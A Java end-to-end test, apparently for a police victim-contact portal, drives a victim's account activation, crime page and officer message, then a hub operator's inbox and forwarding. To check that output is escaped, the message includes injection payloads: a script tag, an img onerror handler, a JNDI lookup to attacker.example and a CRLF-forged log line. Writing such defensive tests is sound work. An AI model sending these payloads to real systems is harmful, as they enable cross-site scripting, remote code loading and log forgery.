package org.trackmycrime.examples.walk;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import java.net.ServerSocket;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.HashMap;
import java.util.Map;
import java.util.function.BooleanSupplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.trackmycrime.examples.ReferenceServer;
import org.trackmycrime.examples.server.DemoStaff;
import org.trackmycrime.examples.server.ServerConfig;
import org.trackmycrime.testing.browser.BrowserSupport;

/**
 * The reference server in demo mode, driven as a newcomer would in a real headless Chromium: a
 * victim follows the invitation in the dev mailbox, activates their account with their crime
 * reference, reads an update on their crime page and writes to the officer; a hub operator signs
 * in, finds the message in the inbox and forwards it to an officer. Subclasses choose the database
 * ({@code TMC_DB_URL}).
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
abstract class AbstractServerWalkTest {
  private static final Pattern INVITATION = Pattern.compile("https?://[^\\s<\"]+/a/[A-Za-z0-9_-]+");

  private ReferenceServer server;
  private BrowserSupport browser;
  private String base;

  /** The {@code TMC_DB_*} variables of the database to run on. */
  abstract Map<String, String> database(Path dir);

  @BeforeAll
  void start(@TempDir Path dir) throws Exception {
    int port;
    try (ServerSocket s = new ServerSocket(0)) {
      port = s.getLocalPort();
    }
    base = "http://localhost:" + port;
    Map<String, String> env = new HashMap<>(database(dir));
    env.put("TMC_HTTP_PORT", Integer.toString(port));
    env.put("TMC_RECORDS_DROP_DIR", dir.resolve("drop").toString());
    env.put("TMC_ALERT_COALESCE_SECONDS", "0");
    env.put("TMC_SMS_QUIET_HOURS", "none");
    server =
        ReferenceServer.start(
            ServerConfig.fromMap(env),
            new ReferenceServer.Tuning(
                Duration.ofSeconds(2), 2, Duration.ofMillis(200), Duration.ofMinutes(1)));
    browser = BrowserSupport.open();
  }

  @AfterAll
  void stop() {
    if (browser != null) {
      browser.close();
    }
    if (server != null) {
      server.close();
    }
  }

  @Test
  void aVictimFromTheInvitationToAnUpdateAndTheHubFromInboxToForward() throws Exception {
    // the dev mailbox: the first invitation, and the crime reference the victim would know
    Page mailbox = browser.newPage();
    Locator row = mailbox.locator("tr", new Page.LocatorOptions().setHasText("/a/"));
    awaitTrue(
        "an invitation in the dev mailbox",
        () -> {
          mailbox.navigate(base + "/dev/mailbox");
          return row.count() > 0;
        });
    Locator invitation = row.last(); // the oldest: its crime has had the longest to progress
    String crimeRef = invitation.locator("td").nth(5).textContent().strip();
    Matcher link = INVITATION.matcher(invitation.textContent());
    assertThat(link.find()).as("an activation link in %s", invitation.textContent()).isTrue();
    assertThat(crimeRef).matches("62/\\d{6}/23");

    // activation: the crime reference as the check, then a password of their own
    Page victim = browser.newPage();
    victim.navigate(link.group());
    BrowserSupport.assertAccessible(victim);
    victim.fill("#crimeReference", crimeRef);
    victim.fill("#password", "a long walk through the portal");
    victim.click("main button[type=submit]");
    assertThat(victim.url()).endsWith("/crimes");

    // the crime page: the officer investigating and the updates so far
    victim.click("main a.govuk-link");
    String crimePage = victim.url();
    assertThat(crimePage).doesNotContain(crimeRef.substring(3, 9));
    awaitTrue(
        "the officer assigned and an update on the crime page",
        () -> {
          victim.navigate(crimePage);
          return victim.locator("#officer-name").count() > 0
              && victim.locator(".tmc-timeline > li").count() >= 2;
        });
    assertThat(victim.textContent("#officer-name")).contains("DC");
    assertThat(victim.textContent("main")).contains(crimeRef);
    BrowserSupport.assertAccessible(victim);

    // a message to the officer
    victim.click("main nav >> text=Messages");
    victim.check("#topic");
    // hostile text a victim could type: it must stay text on every page that shows it
    victim.fill("#body", "Has anyone looked at the CCTV from the shop opposite? " + HOSTILE);
    victim.click("#send");
    assertThat(victim.url()).endsWith("/messages/sent");
    assertThat(victim.textContent(".tmc-status")).isEqualTo("Received by the Command Hub");
    assertThat(victim.textContent("main")).contains("<script>window.tmcInjected = 1</script>");
    assertInert(victim, "main");

    // the hub operator: sign in, the message in the inbox, forward it
    Page hub = browser.newPage();
    hub.navigate(base + "/staff/");
    assertThat(hub.url()).endsWith("/staff/sign-in");
    hub.selectOption("#account", "hub.operator");
    hub.fill("#password", DemoStaff.PASSWORD);
    hub.click("main button[type=submit]");
    assertThat(hub.url()).endsWith("/staff/hub");
    assertThat(hub.textContent("main")).contains("Message: question");
    BrowserSupport.assertAccessible(hub);
    hub.click("main a.govuk-link >> text=Message: question");
    assertThat(hub.textContent("#message-body"))
        .contains("CCTV from the shop opposite")
        .contains("<script>window.tmcInjected = 1</script>")
        .contains("<img src=x onerror=\"window.tmcInjected = 2\">")
        .contains("${jndi:ldap://attacker.example/a}");
    assertInert(hub, "#message-body");
    hub.fill("#officerRef", DemoStaff.OFFICERS.get(0));
    hub.fill("#forward-note", "Please call the victim back");
    hub.click("button >> text=Forward");
    assertThat(hub.textContent("#message-status")).isEqualTo("forwarded");

    // the victim sees that it went to the officer (never the hub's note)
    victim.reload();
    assertThat(victim.textContent(".tmc-status")).isEqualTo("Sent to the officer");
    assertThat(victim.textContent("main")).doesNotContain("Please call the victim back");
  }

  /** Script, an image with a handler and a JNDI look-up, with a forged line after a line break. */
  private static final String HOSTILE =
      "<script>window.tmcInjected = 1</script> <img src=x onerror=\"window.tmcInjected = 2\">"
          + " ${jndi:ldap://attacker.example/a}\r\nINFO forged line";

  /** The hostile text was shown as text: no element made of it, no script of it ran. */
  private static void assertInert(Page page, String container) {
    assertThat(page.locator(container + " script").count()).as("script elements").isZero();
    assertThat(page.locator(container + " img").count()).as("img elements").isZero();
    assertThat(page.evaluate("() => window.tmcInjected === undefined"))
        .as("no injected script ran")
        .isEqualTo(true);
  }

  private static void awaitTrue(String what, BooleanSupplier condition)
      throws InterruptedException {
    Instant until = Instant.now().plus(Duration.ofSeconds(90));
    while (!condition.getAsBoolean()) {
      if (Instant.now().isAfter(until)) {
        throw new AssertionError("timed out waiting for " + what);
      }
      Thread.sleep(500);
    }
  }
}
